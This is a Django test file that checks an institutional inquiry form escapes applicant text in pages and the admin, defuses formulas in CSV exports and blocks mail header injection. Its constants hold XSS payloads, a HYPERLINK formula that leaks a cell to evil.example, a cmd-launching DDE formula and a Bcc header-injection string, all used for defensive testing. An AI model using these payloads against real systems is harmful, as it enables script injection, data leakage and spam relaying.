"""What an applicant wrote is shown as text everywhere: never as markup on a
page, never as a formula in a spreadsheet, never as a mail header."""

import csv
import email
import io

import pytest
from django.urls import reverse

from applications.emails import build_confirmation, build_notification
from tests.factories import form_data, make_inquiry

MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
)
HEADER_INJECTION = "Ana\r\nBcc: eve@evil.example\r\nSubject: spam"


def assert_no_markup_from_the_applicant(html):
    for attack in MARKUP:
        assert attack not in html
    assert "<script>alert" not in html
    assert "onerror=alert" not in html.replace("onerror=alert(1)&gt;", "")
    assert "<img src=x" not in html and "<svg onload" not in html


@pytest.fixture
def hostile(chongqing):
    """An inquiry whose every free-text field is an attack on some reader."""
    return make_inquiry(
        chongqing,
        kind="partnership",
        full_name=MARKUP[1],
        organization=MARKUP[0],
        message="\n".join(MARKUP),
        email="ana@example.com",
    )


def test_the_form_shows_what_was_sent_back_escaped(client, chongqing):
    data = form_data(
        kind="partnership",
        full_name=MARKUP[1],
        organization=MARKUP[0],
        message="\n".join(MARKUP),
        email='"><script>alert(1)</script>@example.com',
        consent=None,  # invalid, so the form comes back with what was typed
    )
    response = client.post(f"/en/institutions/{chongqing.slug}/inquire/", data)
    html = response.content.decode()
    assert response.status_code == 400
    assert_no_markup_from_the_applicant(html)
    assert 'value="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"' in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_a_name_with_a_line_break_is_refused_not_saved(client, chongqing):
    response = client.post(
        f"/en/institutions/{chongqing.slug}/inquire/",
        form_data(full_name=HEADER_INJECTION),
    )
    assert response.status_code == 400
    assert "control characters" in response.content.decode()
    assert not chongqing.inquiries.exists()


def test_the_confirmation_and_the_status_page_escape_the_applicant(client, chongqing):
    response = client.post(
        f"/en/institutions/{chongqing.slug}/inquire/",
        form_data(
            kind="partnership",
            full_name=MARKUP[1],
            organization=MARKUP[0],
            message="\n".join(MARKUP),
        ),
        follow=True,
    )
    assert response.status_code == 200
    assert_no_markup_from_the_applicant(response.content.decode())
    inquiry = chongqing.inquiries.get()
    assert inquiry.full_name == MARKUP[1]  # kept as written, shown as text
    status = client.post(
        "/en/inquiries/status/",
        {"reference": inquiry.reference, "email": inquiry.email},
    )
    assert status.status_code == 200
    assert 'id="inquiry-status"' in status.content.decode()
    assert_no_markup_from_the_applicant(status.content.decode())


@pytest.mark.parametrize(
    "page",
    ["changelist", "change", "history", "dashboard", "search"],
)
def test_the_admin_shows_the_applicant_escaped(client, chen, hostile, page):
    client.force_login(chen)
    url = {
        "changelist": reverse("admin:applications_inquiry_changelist"),
        "search": reverse("admin:applications_inquiry_changelist") + "?q=%3Cscript",
        "change": reverse("admin:applications_inquiry_change", args=[hostile.pk]),
        "history": reverse("admin:applications_inquiry_history", args=[hostile.pk]),
        "dashboard": reverse("admin:applications_inquiry_dashboard"),
    }[page]
    response = client.get(url)
    assert response.status_code == 200
    html = response.content.decode()
    assert_no_markup_from_the_applicant(html)
    if page != "dashboard":  # the dashboard shows counts, not names
        assert "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in html


def test_the_csv_export_defuses_every_formula_an_applicant_wrote(
    client, chen, chongqing
):
    for attack in FORMULAS:
        make_inquiry(
            chongqing,
            kind="partnership",
            full_name=attack,
            organization=attack,
            message=attack,
            email="ana@example.com",
        )
    make_inquiry(chongqing, full_name="Ana - Souza", message="Hello = hi")
    client.force_login(chen)
    response = client.get(reverse("admin:applications_inquiry_export"))
    text = response.content.decode("utf-8").removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    header = next(csv.reader(io.StringIO(text)))
    columns = [header.index(name) for name in ("full name", "organisation", "message")]
    defused = set()
    for row in rows:
        for column in columns:
            cell = row[column]
            if not cell:
                continue
            # A spreadsheet treats none of these cells as a formula.
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
            if cell.startswith("'"):
                defused.add(cell[1:])
    assert defused == set(FORMULAS)
    names = [row[columns[0]] for row in rows]
    assert "Ana - Souza" in names  # a dash inside a cell is left alone


def test_mail_about_an_inquiry_cannot_be_given_extra_headers(chongqing):
    # The form refuses line breaks in a name; one that got in some other way
    # (an import, the admin) must still not reach a header.
    chongqing.admissions_emails = "admissions@example.cn"
    chongqing.save()
    inquiry = make_inquiry(
        chongqing,
        full_name=HEADER_INJECTION,
        organization=MARKUP[0],
        message=HEADER_INJECTION,
        email="ana@example.com",
    )
    for build in (build_confirmation, build_notification):
        message = build(inquiry)
        raw = message.message().as_bytes()
        parsed = email.message_from_bytes(raw)
        assert parsed.get_all("Bcc") is None
        assert "evil.example" not in "".join(
            f"{key}: {value}" for key, value in parsed.items()
        )
        assert "\n" not in message.subject and "\r" not in message.subject
        # Plain text only: no HTML part in which markup could run.
        assert parsed.get_content_type() == "text/plain"
        assert not getattr(message, "alternatives", [])
